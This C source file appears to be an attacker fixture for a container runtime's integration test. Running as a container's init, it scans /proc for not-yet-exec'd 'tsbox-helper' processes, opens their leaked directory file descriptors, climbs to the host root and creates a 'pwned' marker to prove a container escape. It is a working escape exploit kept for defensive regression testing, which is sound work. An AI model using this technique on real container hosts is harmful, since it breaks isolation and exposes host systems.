/* The attacker of test/integration/escapes-exec.test.ts, run as a
 * container's init. It watches its pid namespace for processes that are
 * not yet exec'd (comm "tsbox-helper": what `tsbox exec`, or a container
 * joining this pid namespace, starts) and, for each one, does what a
 * process with CAP_SYS_PTRACE can: open /proc/PID/fd/N. A directory among
 * them that lies outside the container leads to the host's root (`..`
 * until it stops moving, or 1/root of a host /proc); there it creates
 * MARKER/pwned, MARKER being a directory of the host's root the test made.
 *
 * Output, one line per event (stdout, the container's log):
 *   seen PID CAPEFF fds: N=TARGET ...   a process caught before its execve
 *   denied PID ERRNO                    its fds could not be listed (once;
 *                                       it is looked at again until execve)
 *   inside PID N TARGET                 one of its fds is a directory of the
 *                                       container (its root, a workdir)
 *   dir PID N TARGET                    one of its fds is a directory outside
 *   ESCAPED PID N                       MARKER/pwned was created through it
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* by pid (pid_max is at most 2^22): 0 not looked at, DENIED its fds could
 * not be listed yet (looked at again: that may change before its execve),
 * DONE its fds were seen */
enum { DENIED = 1, DONE = 2 };
static unsigned char seen[1 << 22];

static int read_line(const char *path, char *buf, size_t len)
{
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  ssize_t n;
  if (fd < 0)
    return -1;
  n = read(fd, buf, len - 1);
  close(fd);
  if (n < 0)
    return -1;
  buf[n] = '\0';
  return 0;
}

static void cap_eff(int pid, char *out, size_t len)
{
  char path[64], buf[4096], *p;
  snprintf(out, len, "?");
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  if (read_line(path, buf, sizeof buf) < 0 || (p = strstr(buf, "CapEff:\t")) == NULL)
    return;
  snprintf(out, len, "%.16s", p + 8);
}

/* The top of DIRFD's tree: `..` until it stops moving, which is our own
 * root for a directory of the container, the host's root for one of the
 * host. -1 on error. */
static int top_of(int dirfd)
{
  int cur = dup(dirfd);
  for (int i = 0; i < 256 && cur >= 0; i++) {
    int up = openat(cur, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
    close(cur);
    cur = up;
  }
  return cur;
}

/* A directory fd of PID: say whether it lies in the container (its own
 * root, a workdir being entered) or outside, and from outside try to get
 * to MARKER in the host's root: through 1/root if it is a host /proc, else
 * by `..`. */
static void try_escape(int pid, const char *fdname, const char *target, const char *marker)
{
  char path[512];
  struct stat st, top_st, own_root;
  int dirfd, top, root, m, f;

  snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, fdname);
  if (stat(path, &st) < 0 || !S_ISDIR(st.st_mode))
    return;
  dirfd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (dirfd < 0)
    return;
  top = top_of(dirfd);
  if (top >= 0 && fstat(top, &top_st) == 0 && stat("/", &own_root) == 0 && top_st.st_dev == own_root.st_dev &&
      top_st.st_ino == own_root.st_ino) {
    printf("inside %d %s %s\n", pid, fdname, target);
    close(top);
    close(dirfd);
    return;
  }
  printf("dir %d %s %s\n", pid, fdname, target);
  root = openat(dirfd, "1/root", O_PATH | O_DIRECTORY | O_CLOEXEC); /* a host /proc */
  if (root < 0) {
    root = top;
    top = -1;
  }
  if (top >= 0)
    close(top);
  close(dirfd);
  if (root < 0)
    return;
  m = openat(root, marker, O_PATH | O_DIRECTORY | O_CLOEXEC);
  close(root);
  if (m < 0)
    return;
  f = openat(m, "pwned", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  close(m);
  if (f >= 0) {
    close(f);
    printf("ESCAPED %d %s\n", pid, fdname);
  }
}

static void inspect(int pid, const char *marker)
{
  char path[512], comm[64], caps[32], line[4096];
  DIR *d;
  struct dirent *de;
  size_t o;

  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  if (read_line(path, comm, sizeof comm) < 0 || strcmp(comm, "tsbox-helper\n") != 0)
    return;
  cap_eff(pid, caps, sizeof caps);
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  d = opendir(path);
  if (d == NULL) {
    if (seen[pid] != DENIED)
      printf("denied %d %d\n", pid, errno);
    seen[pid] = DENIED;
    return;
  }
  seen[pid] = DONE;
  o = (size_t) snprintf(line, sizeof line, "seen %d %s fds:", pid, caps);
  while ((de = readdir(d)) != NULL) {
    char target[256];
    ssize_t n;
    if (de->d_name[0] == '.')
      continue;
    snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, de->d_name);
    n = readlink(path, target, sizeof target - 1);
    target[n < 0 ? 0 : n] = '\0';
    if (o < sizeof line)
      o += (size_t) snprintf(line + o, sizeof line - o, " %s=%s", de->d_name, target);
    try_escape(pid, de->d_name, target, marker);
  }
  closedir(d);
  printf("%s\n", line);
}

int main(int argc, char **argv)
{
  if (argc != 2) {
    fprintf(stderr, "usage: ptrace-scan MARKER\n");
    return 2;
  }
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("ready\n");
  for (;;) {
    DIR *d = opendir("/proc");
    struct dirent *de;
    if (d == NULL)
      return 1;
    while ((de = readdir(d)) != NULL) {
      int pid = atoi(de->d_name);
      if (pid > 1 && pid < (int) sizeof seen && seen[pid] != DONE)
        inspect(pid, argv[1]);
    }
    closedir(d);
  }
}
